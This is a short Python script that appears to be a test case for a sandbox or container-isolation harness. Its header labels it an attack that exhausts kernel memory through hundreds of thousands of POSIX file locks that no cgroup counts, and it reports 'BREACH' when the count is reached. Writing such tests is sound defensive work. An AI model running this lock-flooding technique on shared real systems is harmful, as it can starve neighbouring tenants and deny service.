# attack: take the kernel's memory by POSIX locks, a million of them, which no cgroup counts
# must end: completed or interrupted or crashed
# limits: wall=20s
# with: neighbour
import fcntl, os
with open("own.txt", "w") as file:
    taken = 0
    for start in range(0, 2_000_000, 2):
        try:
            fcntl.lockf(file, fcntl.LOCK_EX | fcntl.LOCK_NB, 1, start)
        except OSError:
            break
        taken += 1
        if taken == 400_000:
            print("BREACH:", taken, "locks are held", flush=True)
            break
print("held")
